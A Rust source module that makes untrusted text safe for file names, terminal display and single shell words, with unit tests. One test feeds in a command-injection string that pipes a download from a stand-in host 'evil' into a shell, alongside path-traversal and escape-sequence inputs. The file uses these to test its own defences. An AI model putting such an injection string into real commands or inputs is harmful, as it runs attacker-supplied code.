//! Text that comes from files, made safe for the place where it goes: `file_name` makes part of a file's name of it,
//! `Printable` and `shown` print it, `shell` and `shell_path` make one word of a command line. What is shown of a
//! model, or of a path that a model named, goes through one of them.

pub use ggraft_formats::error::{Printable, is_obeyed};

use std::path::Path;

/// The most characters of a part of a file's name; a file system takes about 250 bytes for the whole.
const LONGEST: usize = 60;

/// Part of a file's name: letters, digits and `._+-`; all else between them becomes one `-`. None if nothing is left.
pub fn file_name(text: &str) -> Option<String> {
    let mut name = String::new();
    for c in text.chars() {
        match c.is_alphanumeric() || "._+".contains(c) {
            true => name.push(c),
            false if name.ends_with('-') => {}
            false => name.push('-'),
        }
    }
    let name: String = name.trim_matches(['-', '.']).chars().take(LONGEST).collect();
    Some(name).filter(|name| !name.is_empty())
}

/// As much of a text as fits into so many bytes.
pub fn beginning(text: &str, bytes: usize) -> &str {
    let fits = |end: &usize| text.is_char_boundary(*end);
    &text[..(0..=bytes.min(text.len())).rev().find(fits).unwrap_or(0)]
}

/// A path as it is printed.
pub fn shown(path: &Path) -> String {
    Printable(&path.to_string_lossy()).to_string()
}

/// One word of a shell's command line, on one line; what a terminal would obey is written as `$'…'` has it.
pub fn shell(word: &str) -> String {
    if word.chars().any(is_obeyed) {
        return format!("$'{}'", word.chars().map(escaped).collect::<String>());
    }
    let plain = |c: char| c.is_alphanumeric() || "-_.,:=+@%/".contains(c);
    // zsh looks for a program behind a '='.
    if !word.is_empty() && !word.starts_with('=') && word.chars().all(plain) {
        return word.to_string();
    }
    format!("'{}'", word.replace('\'', r"'\''"))
}

/// The same of a path, which no program takes for an option.
pub fn shell_path(path: &Path) -> String {
    let text = path.to_string_lossy();
    if text.starts_with('-') { shell(&format!("./{text}")) } else { shell(&text) }
}

fn escaped(c: char) -> String {
    match c {
        '\'' | '\\' => format!("\\{c}"),
        c if !is_obeyed(c) => c.to_string(),
        c if c.is_ascii() => format!("\\x{:02x}", u32::from(c)),
        c if u32::from(c) < 0x1_0000 => format!("\\u{:04x}", u32::from(c)),
        c => format!("\\U{:08x}", u32::from(c)),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_name_holds_letters_digits_and_few_signs() {
        for (text, name) in [
            ("EEVE Korean 10.8B", Some("EEVE-Korean-10.8B")),
            ("  a/../b\\c ", Some("a-..-b-c")),
            ("x;curl${IFS}evil|sh;", Some("x-curl-IFS-evil-sh")),
            ("\u{1b}[31mred\u{7}\nline", Some("31mred-line")),
            ("모델-1", Some("모델-1")),
            ("../..", None),
            ("\u{202e}--", None),
            ("", None),
        ] {
            assert_eq!(file_name(text).as_deref(), name, "{text:?}");
        }
        assert_eq!(file_name(&"x".repeat(1000)).map(|name| name.len()), Some(LONGEST));
    }

    #[test]
    fn a_word_of_a_shell_is_one_word() {
        for (word, quoted) in [
            ("blk.*=0.3", "'blk.*=0.3'"),
            ("it's", r"'it'\''s'"),
            ("cp", "cp"),
            ("모델.gguf", "모델.gguf"),
            ("=ls", "'=ls'"),
            ("", "''"),
            ("a\n```\nb'\\", r"$'a\x0a```\x0ab\'\\'"),
            ("a\u{202e}b", r"$'a\u202eb'"),
        ] {
            assert_eq!(shell(word), quoted, "{word:?}");
        }
        assert_eq!(shell_path(Path::new("-x.gguf")), "./-x.gguf");
    }
}
